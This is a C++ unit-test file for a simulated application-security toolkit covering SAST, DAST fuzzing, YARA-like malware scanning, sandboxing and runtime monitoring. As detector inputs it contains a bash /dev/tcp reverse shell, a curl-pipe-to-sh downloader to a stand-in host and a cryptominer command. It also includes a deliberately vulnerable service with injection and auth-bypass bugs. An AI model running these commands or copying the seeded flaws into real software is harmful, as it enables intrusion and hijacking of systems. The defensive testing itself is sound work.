@@ -1,0 +1,555 @@
+// Tests for the application-security stack: images/registry, SCA with
+// reachability (Lesson 7), SAST rulepacks (M14), the CATS-like fuzzer
+// (M15), port scanning, YARA-like malware detection (M16), KubeArmor-like
+// sandboxing (M17), the Falco-like monitor (M18), and PEACH scoring.
+#include <gtest/gtest.h>
+
+#include "genio/appsec/dast.hpp"
+#include "genio/appsec/events.hpp"
+#include "genio/appsec/falco.hpp"
+#include "genio/appsec/image.hpp"
+#include "genio/appsec/peach.hpp"
+#include "genio/appsec/portscan.hpp"
+#include "genio/appsec/sandbox.hpp"
+#include "genio/appsec/sast.hpp"
+#include "genio/appsec/sca.hpp"
+#include "genio/appsec/yara.hpp"
+
+namespace gc = genio::common;
+namespace cr = genio::crypto;
+namespace as = genio::appsec;
+namespace vn = genio::vuln;
+
+namespace {
+
+as::ContainerImage make_clean_image() {
+  as::ContainerImage image("registry.genio.io/tenant-a/analytics", "1.0.0");
+  as::ImageLayer base;
+  base["/usr/bin/python3"] = gc::to_bytes("ELF:python3");
+  base["/app/main.py"] = gc::to_bytes("import flask\napp = flask.Flask(__name__)\n");
+  image.add_layer(std::move(base));
+  image.add_package({"flask", gc::Version(2, 0, 1), "pypi"});
+  image.add_package({"requests", gc::Version(2, 25, 0), "pypi"});
+  image.add_package({"urllib3", gc::Version(1, 26, 4), "pypi"});
+  image.set_entrypoint("/usr/bin/python3 /app/main.py");
+  return image;
+}
+
+}  // namespace
+
+// ------------------------------------------------------------------ images
+
+TEST(Image, FlattenShadowsEarlierLayers) {
+  as::ContainerImage image("app", "1");
+  image.add_layer({{"/app/config", gc::to_bytes("v1")}});
+  image.add_layer({{"/app/config", gc::to_bytes("v2")},
+                   {"/app/extra", gc::to_bytes("x")}});
+  const auto fs = image.flatten();
+  EXPECT_EQ(gc::to_text(fs.at("/app/config")), "v2");
+  EXPECT_EQ(fs.size(), 2u);
+}
+
+TEST(Image, DigestChangesWithContent) {
+  auto a = make_clean_image();
+  auto b = make_clean_image();
+  EXPECT_EQ(a.digest(), b.digest());
+  b.add_layer({{"/app/new", gc::to_bytes("data")}});
+  EXPECT_NE(a.digest(), b.digest());
+}
+
+TEST(Registry, PushPullRoundTrip) {
+  as::ImageRegistry registry;
+  registry.push(make_clean_image(), "tenant-a");
+  const auto entry = registry.pull("registry.genio.io/tenant-a/analytics:1.0.0");
+  ASSERT_TRUE(entry.ok());
+  EXPECT_EQ((*entry)->publisher, "tenant-a");
+  EXPECT_FALSE(registry.pull("ghost:1").ok());
+}
+
+TEST(Registry, SignedImageVerifies) {
+  as::ImageRegistry registry;
+  auto key = cr::SigningKey::generate(gc::to_bytes("publisher-key"), 4);
+  ASSERT_TRUE(registry.push_signed(make_clean_image(), "tenant-a", key).ok());
+  const auto entry = registry.pull("registry.genio.io/tenant-a/analytics:1.0.0").value();
+  EXPECT_TRUE(as::verify_image(*entry, key.public_key()).ok());
+
+  auto other = cr::SigningKey::generate(gc::to_bytes("other"), 4);
+  EXPECT_FALSE(as::verify_image(*entry, other.public_key()).ok());
+}
+
+TEST(Registry, UnsignedImageFailsVerification) {
+  as::ImageRegistry registry;
+  registry.push(make_clean_image(), "tenant-a");
+  auto key = cr::SigningKey::generate(gc::to_bytes("k"), 4);
+  const auto entry = registry.pull("registry.genio.io/tenant-a/analytics:1.0.0").value();
+  const auto st = as::verify_image(*entry, key.public_key());
+  ASSERT_FALSE(st.ok());
+  EXPECT_EQ(st.error().code(), gc::ErrorCode::kSignatureInvalid);
+}
+
+// -------------------------------------------------------------------- SCA
+
+namespace {
+
+vn::CveDatabase make_pypi_db() {
+  vn::CveDatabase db;
+  auto add = [&db](const std::string& id, const std::string& pkg,
+                   const std::string& range, const std::string& vector) {
+    vn::CveRecord r;
+    r.id = id;
+    r.package = pkg;
+    r.affected = gc::VersionRange::parse(range).value();
+    r.cvss = vn::CvssV3::parse(vector).value();
+    db.upsert(std::move(r));
+  };
+  add("CVE-PY-1", "requests", "<2.26.0", "AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N");
+  add("CVE-PY-2", "urllib3", "<1.26.5", "AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:N/A:N");
+  add("CVE-PY-3", "flask", "<1.0.0", "AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
+  return db;
+}
+
+}  // namespace
+
+TEST(Sca, FindsVulnerableManifestPackages) {
+  const auto db = make_pypi_db();
+  as::ScaScanner scanner(&db);
+  const auto report = scanner.scan(make_clean_image());
+  // requests 2.25.0 and urllib3 1.26.4 match; flask 2.0.1 does not.
+  EXPECT_EQ(report.findings.size(), 2u);
+  EXPECT_EQ(report.packages_scanned, 3u);
+  // Sorted by score: requests (7.5) before urllib3 (5.9).
+  EXPECT_EQ(report.findings[0].package, "requests");
+}
+
+TEST(Sca, Lesson7ReachabilityPartitionsNoise) {
+  const auto db = make_pypi_db();
+  as::ScaScanner scanner(&db);
+  // The app only imports requests; urllib3 is a transitive leftover.
+  const auto report =
+      scanner.scan_with_reachability(make_clean_image(), {"flask", "requests"});
+  EXPECT_EQ(report.findings.size(), 2u);
+  EXPECT_EQ(report.actionable().size(), 1u);
+  EXPECT_EQ(report.actionable()[0].package, "requests");
+  EXPECT_DOUBLE_EQ(report.noise_ratio(), 0.5);
+}
+
+TEST(Sca, CleanImageHasNoFindings) {
+  vn::CveDatabase db;  // empty
+  as::ScaScanner scanner(&db);
+  const auto report = scanner.scan(make_clean_image());
+  EXPECT_TRUE(report.findings.empty());
+  EXPECT_DOUBLE_EQ(report.noise_ratio(), 0.0);
+}
+
+// -------------------------------------------------------------------- SAST
+
+TEST(Sast, DetectsHardcodedCredential) {
+  as::SastEngine engine = as::make_default_sast_engine();
+  as::SourceFile file{"/app/config.py", as::Language::kPython,
+                      "db_password = \"hunter2\"\nuser = input()\n"};
+  const auto findings = engine.analyze(file);
+  ASSERT_FALSE(findings.empty());
+  EXPECT_EQ(findings[0].rule_id, "GEN-SECRET-01");
+  EXPECT_EQ(findings[0].line, 1);
+}
+
+TEST(Sast, EnvLookupIsNotACredentialFinding) {
+  as::SastEngine engine = as::make_default_sast_engine();
+  as::SourceFile file{"/app/config.py", as::Language::kPython,
+                      "db_password = os.getenv(\"DB_PASSWORD\")\n"};
+  for (const auto& f : engine.analyze(file)) {
+    EXPECT_NE(f.rule_id, "GEN-SECRET-01");
+  }
+}
+
+TEST(Sast, DetectsPythonSqlInjection) {
+  as::SastEngine engine = as::make_default_sast_engine();
+  as::SourceFile file{
+      "/app/db.py", as::Language::kPython,
+      "cursor.execute(\"SELECT * FROM users WHERE id=\" + user_id)\n"};
+  const auto findings = engine.analyze(file);
+  ASSERT_EQ(findings.size(), 1u);
+  EXPECT_EQ(findings[0].rule_id, "PY-SQLI-01");
+  EXPECT_EQ(findings[0].severity, "critical");
+}
+
+TEST(Sast, DetectsWeakCryptoAnyLanguage) {
+  as::SastEngine engine = as::make_default_sast_engine();
+  as::SourceFile py{"/app/h.py", as::Language::kPython,
+                    "digest = hashlib.md5(data).hexdigest()\n"};
+  as::SourceFile java{"/App.java", as::Language::kJava,
+                      "Cipher c = Cipher.getInstance(\"DES/ECB/PKCS5Padding\");\n"};
+  EXPECT_FALSE(engine.analyze(py).empty());
+  EXPECT_FALSE(engine.analyze(java).empty());
+}
+
+TEST(Sast, JavaRulesOnlyFireOnJava) {
+  as::SastEngine engine;
+  engine.add_rules(as::java_security_rules());
+  as::SourceFile py{"/app/x.py", as::Language::kPython,
+                    "executeQuery(\"SELECT \" + x)\n"};
+  EXPECT_TRUE(engine.analyze(py).empty());
+  as::SourceFile java{"/X.java", as::Language::kJava,
+                      "rs = stmt.executeQuery(\"SELECT \" + x);\n"};
+  EXPECT_FALSE(engine.analyze(java).empty());
+}
+
+TEST(Sast, AnalyzeImageExtractsSources) {
+  as::ContainerImage image("app", "1");
+  image.add_layer({{"/app/main.py",
+                    gc::to_bytes("api_key = 'sk-123456'\nos.system(\"ls \" + d)\n")},
+                   {"/app/binary", gc::to_bytes("ELF:not-source")}});
+  as::SastEngine engine = as::make_default_sast_engine();
+  const auto findings = engine.analyze_image(image);
+  EXPECT_GE(findings.size(), 2u);
+  bool secret = false, cmdi = false;
+  for (const auto& f : findings) {
+    secret |= f.rule_id == "GEN-SECRET-01";
+    cmdi |= f.rule_id == "PY-CMDI-01";
+  }
+  EXPECT_TRUE(secret);
+  EXPECT_TRUE(cmdi);
+}
+
+TEST(Sast, ReportsCorrectLineNumbers) {
+  as::SastEngine engine = as::make_default_sast_engine();
+  as::SourceFile file{"/app/a.py", as::Language::kPython,
+                      "import os\n\n\neval(user_input)\n"};
+  const auto findings = engine.analyze(file);
+  ASSERT_EQ(findings.size(), 1u);
+  EXPECT_EQ(findings[0].line, 4);
+}
+
+// -------------------------------------------------------------------- DAST
+
+namespace {
+
+// A service with seeded vulnerabilities for the fuzzer to find.
+as::RestService make_vulnerable_service() {
+  as::ApiSpec spec;
+  spec.service = "iot-readings";
+  spec.endpoints = {
+      {"GET", "/api/v1/readings", {{"sensor_id", as::ParamType::kString, true}}, false},
+      {"POST", "/api/v1/admin/reset", {}, true},
+      {"GET", "/api/v1/search", {{"q", as::ParamType::kString, false}}, false},
+  };
+  as::RestService service(std::move(spec));
+
+  service.set_handler("GET", "/api/v1/readings", [](const as::HttpRequest& r) {
+    const auto it = r.params.find("sensor_id");
+    if (it == r.params.end()) return as::HttpResponse{200, "all readings"};  // bug!
+    if (it->second.find('\'') != std::string::npos) {
+      return as::HttpResponse{500, "SQL syntax error near ' OR"};  // injection!
+    }
+    if (it->second.size() > 1024) {
+      return as::HttpResponse{500, "internal buffer error"};  // crash!
+    }
+    return as::HttpResponse{200, "reading: 42"};
+  });
+  service.set_handler("POST", "/api/v1/admin/reset", [](const as::HttpRequest& r) {
+    (void)r;  // BUG: never checks r.authenticated
+    return as::HttpResponse{200, "reset done"};
+  });
+  service.set_handler("GET", "/api/v1/search", [](const as::HttpRequest& r) {
+    const auto it = r.params.find("q");
+    const std::string q = it == r.params.end() ? "" : it->second;
+    return as::HttpResponse{200, "results for " + q};  // reflected!
+  });
+  return service;
+}
+
+as::RestService make_hardened_service() {
+  as::ApiSpec spec;
+  spec.service = "iot-readings";
+  spec.endpoints = {
+      {"GET", "/api/v1/readings", {{"sensor_id", as::ParamType::kString, true}}, false},
+      {"POST", "/api/v1/admin/reset", {}, true},
+  };
+  as::RestService service(std::move(spec));
+  service.set_handler("GET", "/api/v1/readings", [](const as::HttpRequest& r) {
+    const auto it = r.params.find("sensor_id");
+    if (it == r.params.end()) return as::HttpResponse{400, "missing sensor_id"};
+    for (char c : it->second) {
+      if (!std::isalnum(static_cast<unsigned char>(c)) && c != '-') {
+        return as::HttpResponse{400, "invalid sensor_id"};
+      }
+    }
+    if (it->second.size() > 64) return as::HttpResponse{400, "sensor_id too long"};
+    return as::HttpResponse{200, "reading: 42"};
+  });
+  service.set_handler("POST", "/api/v1/admin/reset", [](const as::HttpRequest& r) {
+    if (!r.authenticated) return as::HttpResponse{401, "unauthorized"};
+    return as::HttpResponse{200, "reset done"};
+  });
+  return service;
+}
+
+}  // namespace
+
+TEST(Dast, AttackT7FuzzerFindsSeededVulnerabilities) {
+  as::ApiFuzzer fuzzer(gc::Rng(1));
+  const auto report = fuzzer.fuzz(make_vulnerable_service());
+  EXPECT_GE(report.count(as::DastIssueKind::kInjectionSuspected), 1u);
+  EXPECT_GE(report.count(as::DastIssueKind::kServerError), 1u);
+  EXPECT_EQ(report.count(as::DastIssueKind::kAuthBypass), 1u);
+  EXPECT_GE(report.count(as::DastIssueKind::kMissingValidation), 1u);
+  EXPECT_GE(report.count(as::DastIssueKind::kReflectedInput), 1u);
+  EXPECT_GT(report.requests_sent, 20u);
+  EXPECT_EQ(report.endpoints_fuzzed, 3u);
+}
+
+TEST(Dast, HardenedServiceIsClean) {
+  as::ApiFuzzer fuzzer(gc::Rng(1));
+  const auto report = fuzzer.fuzz(make_hardened_service());
+  EXPECT_TRUE(report.findings.empty())
+      << as::to_string(report.findings.front().kind) << " on "
+      << report.findings.front().endpoint;
+}
+
+TEST(Dast, DictionaryCoversKeyAttackClasses) {
+  const auto& dict = as::ApiFuzzer::payload_dictionary();
+  bool sql = false, xss = false, oversize = false, empty = false;
+  for (const auto& p : dict) {
+    sql |= p.find('\'') != std::string::npos;
+    xss |= p.find("<script>") != std::string::npos;
+    oversize |= p.size() >= 4096;
+    empty |= p.empty();
+  }
+  EXPECT_TRUE(sql && xss && oversize && empty);
+}
+
+TEST(Dast, UnknownEndpointIs404) {
+  const auto service = make_hardened_service();
+  const auto response = service.handle({"GET", "/nope", {}, true});
+  EXPECT_EQ(response.status, 404);
+}
+
+// ---------------------------------------------------------------- portscan
+
+TEST(PortScan, FlagsUndeclaredUntlsAndDebugPorts) {
+  as::NetworkSurface surface{"analytics",
+                             {{8443, "https-api", true},
+                              {9229, "debug-console", false},
+                              {6379, "redis", false}}};
+  as::PortScanner scanner;
+  const auto report = scanner.scan(surface, {8443});
+  EXPECT_EQ(report.open_ports.size(), 3u);
+  // 9229: undeclared + no TLS + debug = 3 issues; 6379: undeclared + no TLS.
+  EXPECT_EQ(report.issues.size(), 5u);
+}
+
+TEST(PortScan, CleanSurfacePasses) {
+  as::NetworkSurface surface{"analytics", {{8443, "https-api", true}}};
+  as::PortScanner scanner;
+  EXPECT_TRUE(scanner.scan(surface, {8443}).issues.empty());
+}
+
+// -------------------------------------------------------------------- YARA
+
+TEST(Yara, AttackT8DetectsMinerInImage) {
+  auto scanner = as::make_default_malware_scanner();
+  as::ContainerImage image("registry.genio.io/tenant-x/worker", "3.1");
+  image.add_layer(
+      {{"/usr/local/bin/helper",
+        gc::to_bytes("#!/bin/sh\n/tmp/xmrig -o stratum+tcp://pool.example:3333\n")}});
+  const auto matches = scanner.scan_image(image);
+  ASSERT_EQ(matches.size(), 1u);
+  EXPECT_EQ(matches[0].rule, "xmrig_cryptominer");
+  EXPECT_EQ(matches[0].matched_ids.size(), 2u);
+}
+
+TEST(Yara, DetectsReverseShellAndDownloader) {
+  auto scanner = as::make_default_malware_scanner();
+  const auto rev = scanner.scan_bytes(
+      "entry.sh", gc::to_bytes("bash -i >& /dev/tcp/198.51.100.6/4444 0>&1"));
+  ASSERT_EQ(rev.size(), 1u);
+  EXPECT_EQ(rev[0].rule, "reverse_shell");
+
+  const auto dl = scanner.scan_bytes(
+      "cron.sh", gc::to_bytes("curl -s http://evil/x | sh; chmod +x /tmp/stage2"));
+  ASSERT_FALSE(dl.empty());
+  EXPECT_EQ(dl[0].rule, "botnet_downloader");
+}
+
+TEST(Yara, ThresholdConditionRequiresEnoughStrings) {
+  auto scanner = as::make_default_malware_scanner();
+  // Only one miner indicator -> below the 2-of-N threshold.
+  const auto matches =
+      scanner.scan_bytes("README.md", gc::to_bytes("we discuss xmrig here"));
+  EXPECT_TRUE(matches.empty());
+}
+
+TEST(Yara, CleanImagePasses) {
+  auto scanner = as::make_default_malware_scanner();
+  EXPECT_TRUE(scanner.scan_image(make_clean_image()).empty());
+}
+
+TEST(Yara, HexPatternsMatchBinaryContent) {
+  as::YaraRule rule;
+  rule.name = "elf_with_marker";
+  rule.strings = {as::YaraRule::hex("$elf", "7f454c46").value(),
+                  as::YaraRule::text("$marker", "IMPLANT")};
+  rule.condition = as::YaraCondition::kAllOf;
+  as::YaraScanner scanner;
+  scanner.add_rule(rule);
+
+  gc::Bytes binary = gc::hex_decode("7f454c46").value();
+  const gc::Bytes marker = gc::to_bytes("...IMPLANT...");
+  binary.insert(binary.end(), marker.begin(), marker.end());
+  EXPECT_EQ(scanner.scan_bytes("bin", binary).size(), 1u);
+  EXPECT_TRUE(scanner.scan_bytes("bin", gc::to_bytes("IMPLANT only")).empty());
+}
+
+// ----------------------------------------------------------------- sandbox
+
+TEST(Sandbox, BenignTraceRunsClean) {
+  as::SandboxEnforcer enforcer;
+  enforcer.add_policy(as::make_web_workload_policy("tenant-a/*"));
+  const auto records =
+      enforcer.run_trace(as::traces::benign_web_app("tenant-a/web", 10));
+  EXPECT_EQ(as::SandboxEnforcer::denied_count(records), 0u);
+}
+
+TEST(Sandbox, AttackT8PostExploitationBlocked) {
+  as::SandboxEnforcer enforcer;
+  enforcer.add_policy(as::make_web_workload_policy("tenant-a/*"));
+  const auto records =
+      enforcer.run_trace(as::traces::post_exploitation("tenant-a/web"));
+  // Shell exec, shadow read, ssh key read, C2 connect, curl exec: all denied.
+  EXPECT_EQ(as::SandboxEnforcer::denied_count(records), 5u);
+}
+
+TEST(Sandbox, AttackT8EscapeAttemptBlocked) {
+  as::SandboxEnforcer enforcer;
+  enforcer.add_policy(as::make_web_workload_policy("tenant-a/*"));
+  const auto records = enforcer.run_trace(as::traces::escape_attempt("tenant-a/web"));
+  EXPECT_EQ(as::SandboxEnforcer::denied_count(records), records.size());
+}
+
+TEST(Sandbox, AuditModeObservesWithoutBlocking) {
+  as::SandboxEnforcer enforcer;
+  enforcer.add_policy(
+      as::make_web_workload_policy("tenant-a/*", as::PolicyMode::kAudit));
+  const auto records =
+      enforcer.run_trace(as::traces::post_exploitation("tenant-a/web"));
+  EXPECT_EQ(as::SandboxEnforcer::denied_count(records), 0u);
+  std::size_t audited = 0;
+  for (const auto& r : records) audited += r.verdict == as::Verdict::kAudited;
+  EXPECT_EQ(audited, records.size());
+}
+
+TEST(Sandbox, UnconfinedWorkloadIsAllowed) {
+  as::SandboxEnforcer enforcer;
+  enforcer.add_policy(as::make_web_workload_policy("tenant-a/*"));
+  const auto record = enforcer.evaluate(
+      {gc::SimTime{}, "tenant-b/other", as::SyscallKind::kExec, "/bin/sh", {}});
+  EXPECT_EQ(record.verdict, as::Verdict::kAllowed);
+  EXPECT_EQ(record.rule, "unconfined");
+}
+
+TEST(Sandbox, WriteOutsideAllowedPathsDenied) {
+  as::SandboxEnforcer enforcer;
+  enforcer.add_policy(as::make_web_workload_policy("tenant-a/*"));
+  const auto denied = enforcer.evaluate({gc::SimTime{}, "tenant-a/web",
+                                         as::SyscallKind::kOpen, "/etc/passwd",
+                                         {{"mode", "w"}}});
+  EXPECT_EQ(denied.verdict, as::Verdict::kDenied);
+  const auto allowed = enforcer.evaluate({gc::SimTime{}, "tenant-a/web",
+                                          as::SyscallKind::kOpen, "/app/data/x.db",
+                                          {{"mode", "w"}}});
+  EXPECT_EQ(allowed.verdict, as::Verdict::kAllowed);
+}
+
+// ------------------------------------------------------------------- falco
+
+TEST(Falco, AttackT8DetectsPostExploitation) {
+  auto monitor = as::make_default_falco_monitor();
+  const auto alerts =
+      monitor.process_trace(as::traces::post_exploitation("tenant-a/web"));
+  EXPECT_GE(alerts.size(), 3u);
+  bool shell = false, sensitive = false, c2 = false;
+  for (const auto& a : alerts) {
+    shell |= a.rule == "shell_in_container";
+    sensitive |= a.rule == "read_sensitive_file";
+    c2 |= a.rule == "outbound_to_unexpected_port";
+  }
+  EXPECT_TRUE(shell && sensitive && c2);
+}
+
+TEST(Falco, DetectsEscapeIndicators) {
+  auto monitor = as::make_default_falco_monitor();
+  const auto alerts = monitor.process_trace(as::traces::escape_attempt("tenant-x/ct"));
+  bool escape = false, module = false, setuid = false;
+  for (const auto& a : alerts) {
+    escape |= a.rule == "container_escape_indicator";
+    module |= a.rule == "kernel_module_load";
+    setuid |= a.rule == "privilege_escalation_setuid";
+  }
+  EXPECT_TRUE(escape && module && setuid);
+}
+
+TEST(Falco, BenignTrafficIsQuiet) {
+  auto monitor = as::make_default_falco_monitor();
+  const auto alerts = monitor.process_trace(as::traces::benign_web_app("t/web", 50));
+  EXPECT_TRUE(alerts.empty());
+  EXPECT_GT(monitor.stats().events_processed, 100u);
+  EXPECT_DOUBLE_EQ(monitor.stats().alert_rate(), 0.0);
+}
+
+TEST(Falco, Lesson8ExceptionTuningSilencesFalsePositive) {
+  auto monitor = as::make_default_falco_monitor();
+  // A legitimate backup job that reads .ssh keys would alert...
+  as::SyscallEvent backup{gc::SimTime{}, "platform/backup", as::SyscallKind::kOpen,
+                          "/root/.ssh/id_rsa", {{"mode", "r"}}};
+  EXPECT_FALSE(monitor.process(backup).empty());
+  // ...until the operator adds a tuning exception for that workload.
+  ASSERT_TRUE(monitor.add_exception("read_sensitive_file", "platform/backup"));
+  EXPECT_TRUE(monitor.process(backup).empty());
+  // The rule still fires for everyone else.
+  as::SyscallEvent other{gc::SimTime{}, "tenant-a/web", as::SyscallKind::kOpen,
+                         "/root/.ssh/id_rsa", {{"mode", "r"}}};
+  EXPECT_FALSE(monitor.process(other).empty());
+}
+
+TEST(Falco, MonitorObservesButNeverBlocks) {
+  // Unlike the sandbox, the monitor's contract is detection-only: the
+  // trace runs to completion and every event is processed.
+  auto monitor = as::make_default_falco_monitor();
+  const auto trace = as::traces::post_exploitation("t/w");
+  (void)monitor.process_trace(trace);
+  EXPECT_EQ(monitor.stats().events_processed, trace.size());
+}
+
+TEST(Falco, UnknownRuleExceptionReturnsFalse) {
+  auto monitor = as::make_default_falco_monitor();
+  EXPECT_FALSE(monitor.add_exception("no_such_rule", "x/*"));
+}
+
+// ------------------------------------------------------------------- PEACH
+
+TEST(Peach, ScoresAndTiers) {
+  as::PeachAssessment strong{"mTLS tenant API", 2, 2, 2, 2, 2, 0};
+  EXPECT_DOUBLE_EQ(strong.score(), 1.0);
+  EXPECT_EQ(as::tier_for_score(strong.score()), as::IsolationTier::kStrong);
+
+  as::PeachAssessment weak{"legacy shared debug port", 0, 0, 0, 0, 1, 2};
+  EXPECT_LT(weak.score(), 0.25);
+  EXPECT_EQ(as::tier_for_score(weak.score()), as::IsolationTier::kWeak);
+}
+
+TEST(Peach, ComplexityPenalizesScore) {
+  as::PeachAssessment simple{"api", 2, 2, 2, 2, 2, 0};
+  as::PeachAssessment complex_iface{"api", 2, 2, 2, 2, 2, 2};
+  EXPECT_GT(simple.score(), complex_iface.score());
+}
+
+TEST(Peach, ReportAggregatesAndFlagsWeakest) {
+  as::PeachReport report;
+  report.assessments = {{"hard-isolated VM API", 2, 2, 2, 2, 2, 0},
+                        {"soft-isolated container runtime", 1, 1, 2, 1, 1, 1},
+                        {"legacy diag socket", 0, 0, 1, 0, 0, 1}};
+  EXPECT_GT(report.mean_score(), 0.0);
+  const auto weakest = report.weakest(0.5);
+  ASSERT_EQ(weakest.size(), 1u);
+  EXPECT_EQ(weakest[0]->interface_name, "legacy diag socket");
+}
